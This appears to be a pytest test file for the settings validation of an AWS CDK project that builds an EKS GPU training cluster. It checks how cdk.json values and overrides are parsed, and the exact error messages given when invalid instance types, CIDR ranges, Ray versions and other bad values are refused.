def test_a_trainer_refusal_names_the_setting_it_comes_from():
    with pytest.raises(SettingsError, match=r"^training.learning_rate: 2.0 must be in \(0, 1\)$"):
        settings_from_context(base_context() | {"training.learning_rate": 2.0})


def test_cdk_json_without_context_uses_the_defaults(tmp_path):
    (tmp_path / "cdk.json").write_text('{"app": "python3 app.py"}')
    assert settings_from_files(tmp_path / "cdk.json", []) == Settings()


def test_an_override_value_may_hold_an_equals_sign(tmp_path):
    (tmp_path / "cdk.json").write_text('{"context": {}}')
    s = settings_from_files(tmp_path / "cdk.json", ["tags={\"a\": \"b=c\"}"])
    assert s.tags["a"] == "b=c"


def test_a_missing_or_unreadable_cdk_json_is_named(tmp_path):
    with pytest.raises(SettingsError, match=rf"^{tmp_path / 'missing.json'}: no such file \(run from the repository root"):
        settings_from_files(tmp_path / "missing.json", [])
    (tmp_path / "latin1.json").write_bytes(b'{"context": {"a": "\xe9"}}')
    with pytest.raises(SettingsError, match=rf"^{tmp_path / 'latin1.json'}: cannot be read: 'utf-8' codec"):
        settings_from_files(tmp_path / "latin1.json", [])


@pytest.mark.parametrize("option,setting", [("workers", "gpu_node_count"), ("lr", "training.learning_rate"),
                                            ("instance_type", "gpu_instance_type"), ("steps", "training.steps"),
                                            ("not_a_setting", "not_a_setting")])
def test_setting_of_option(option, setting):
    from stacks.settings import _setting_of_option

    assert _setting_of_option(option) == setting


def test_tools_read_the_cdk_json_of_the_folder_they_run_in(monkeypatch):
    monkeypatch.chdir(ROOT)
    assert settings_from_files() == settings_from_files(ROOT / "cdk.json")


def test_the_context_of_a_cdk_json_is_what_the_settings_are_made_of(tmp_path):
    document = json.loads((ROOT / "cdk.json").read_text())
    document["context"]["gpu_node_count"] = 3
    document["context"]["training"]["batch_tokens"] = 49152  # 3 nodes x 4 GPUs x 1 x 2,048 x 2
    (tmp_path / "cdk.json").write_text(json.dumps(document))
    assert settings_from_files(tmp_path / "cdk.json").gpu_node_count == 3


KNOWN_SETTINGS = ("account, admin_principal_arn, availability_zones, capacity_reservation_id, endpoint_access, "
                  "endpoint_public_cidrs, gpu_availability_zone, gpu_capacity_type, gpu_instance_type, gpu_node_count, "
                  "gpu_node_disk_gib, gpu_node_taint, gpu_scale_down_delay_minutes, gpu_scale_to_zero, gpu_spot_interruptions, "
                  "image_pull_through_cache, kubernetes_version, "
                  "log_retention_days, nat_gateways, placement_group, region, stack_name, system_instance_type, "
                  "system_node_count, system_node_disk_gib, tags, training, vpc_cidr")
REFUSED_IN_FULL = [
    ({"gpu_instance_type": "m7i.xlarge"}, "gpu_instance_type: m7i.xlarge has no GPU; known EFA GPU types: g5.48xlarge, "
     "g6.12xlarge, g6.48xlarge, g6e.12xlarge, p4d.24xlarge, p5.48xlarge"),
    ({"system_instance_type": "g6.12xlarge"}, "system_instance_type: 'g6.12xlarge' must be a CPU type from the instance "
     "table: m6i.xlarge, m7i.2xlarge, m7i.xlarge"),
    ({"tags": {"": "x"}}, "tags: '' must be 1-128 characters with a value of at most 256"),
    ({"account": 123}, "account: expected a string, got 123"),
    ({"vpc_cidr": "127.0.0.0/16"}, "vpc_cidr: '127.0.0.0/16' overlaps a range AWS refuses for VPCs (0/8, 127/8, "
     "169.254/16, 224/4, 240/4); use a private range such as 10.0.0.0/16"),
    ({"no_such": 1}, f"no_such: unknown setting; known settings: {KNOWN_SETTINGS}"),
    ({"admin_principal_arn": "arn:aws-cn:iam::123456789012:role/x"},
     "admin_principal_arn: 'arn:aws-cn:iam::123456789012:role/x' is in partition aws-cn, region us-east-2 in aws"),
    ({"stack_name": "A" * 101}, f"stack_name: {'A' * 101!r} must start with a letter and hold only letters, digits and "
     "'-', at most 100 characters (it also names the EKS cluster)"),
    ({"capacity_reservation_id": "cr-0123456789abcdef0", "placement_group": "on"},
     "placement_group: on with capacity_reservation_id cannot launch: the stack makes a new cluster placement group and "
     "a reservation launches only into the group it was created in; use auto or off"),
    ({"endpoint_access": "private", "endpoint_public_cidrs": ["203.0.113.0/24"]},
     "endpoint_public_cidrs: a private endpoint has no public CIDRs (unset it, or set endpoint_access=public_and_private)"),
    ({"endpoint_public_cidrs": []}, "endpoint_public_cidrs: a public endpoint needs at least one CIDR; none would "
     "leave EKS's default, 0.0.0.0/0 (every address): give your CIDRs, 0.0.0.0/0 on purpose, `none` to unset it "
     "(`make deploy` then uses your address), or endpoint_access=private"),
]


@pytest.mark.parametrize("overrides,message", REFUSED_IN_FULL, ids=[next(iter(o)) for o, _ in REFUSED_IN_FULL])
def test_refusals_in_full(overrides, message):
    with pytest.raises(SettingsError) as error:
        settings_from_context(base_context() | overrides)
    assert str(error.value) == message


def test_an_unknown_training_setting_lists_the_known_ones():
    with pytest.raises(SettingsError) as error:
        settings_from_context(base_context() | {"training.no_such": 1})
    assert str(error.value).startswith("training.no_such: unknown setting; known: activation_checkpointing, "
                                       "active_deadline_seconds, assistant_only_loss, async_checkpoint, ")


@pytest.mark.parametrize("spelling", ["", "none", "None", "NULL", " null "])
def test_null_spellings_unset_an_optional_setting(spelling):
    assert settings_from_context(base_context() | {"capacity_reservation_id": spelling}).capacity_reservation_id is None


@pytest.mark.parametrize("spelling,value", [("true", True), ("TRUE", True), ("1", True), ("yes", True), ("YES", True),
                                            ("false", False), ("0", False), ("no", False), ("NO", False)])
def test_boolean_spellings(spelling, value):
    assert settings_from_context(base_context() | {"training.require_efa": spelling}).training.require_efa is value


def test_a_list_setting_given_as_json_text():
    s = settings_from_context(base_context() | {"availability_zones": '["us-east-2a", "us-east-2b"]'})
    assert s.availability_zones == ("us-east-2a", "us-east-2b")


@pytest.mark.parametrize("key", ["aws-cdk-lib.feature", "@aws-cdk/custom", "cdk-bootstrap-qualifier",
                                 "acknowledged-issue-numbers", "@aws-cdk/core:newStyleStackSynthesis"])
def test_keys_cdk_itself_keeps_in_the_context_are_left_alone_and_the_rest_still_read(key):
    s = settings_from_context({key: "x"} | base_context() | {"gpu_node_count": 4})
    assert s.gpu_node_count == 4


@pytest.mark.parametrize("version,accepted", [
    ("2.6.0", False),    # Ray 2.6 is older than 2.52 (6 < 52), though the text "2.6.0" sorts after "2.52.0"
    ("2.9.3", False),
    ("2.100.0", True),   # newer (100 > 52), though "2.100.0" sorts before "2.52.0"
    ("3.0.0", True),
    ("10.0.0", True),    # "10..." sorts before "2..."
])
def test_ray_versions_are_compared_as_numbers(version, accepted):
    overrides = {"training.ray_version": version}
    if accepted:
        assert settings_from_context(base_context() | overrides).training.ray_version == version
    else:
        with pytest.raises(SettingsError, match=rf"^training.ray_version: '{version}' must be the image's Ray version"):
            settings_from_context(base_context() | overrides)


def test_an_empty_endpoint_cidr_list_is_refused_not_read_as_unset():
    # `-c endpoint_public_cidrs=` arrives as "": read as unset, a plain `cdk deploy` left the endpoint open to every
    # address with no word (EKS API reference, VpcConfigRequest.publicAccessCidrs: "The default value is 0.0.0.0/0").
    with pytest.raises(SettingsError, match=r"^endpoint_public_cidrs: a public endpoint needs at least one CIDR; none "
                                            r"would leave EKS's default, 0\.0\.0\.0/0 \(every address\)"):
        settings_from_files(ROOT / "cdk.json", ["endpoint_public_cidrs="])
    assert settings_from_files(ROOT / "cdk.json", ["endpoint_public_cidrs=none"]).endpoint_public_cidrs is None
    assert settings_from_files(ROOT / "cdk.json", ["account="]).account is None  # a string setting: empty still unsets
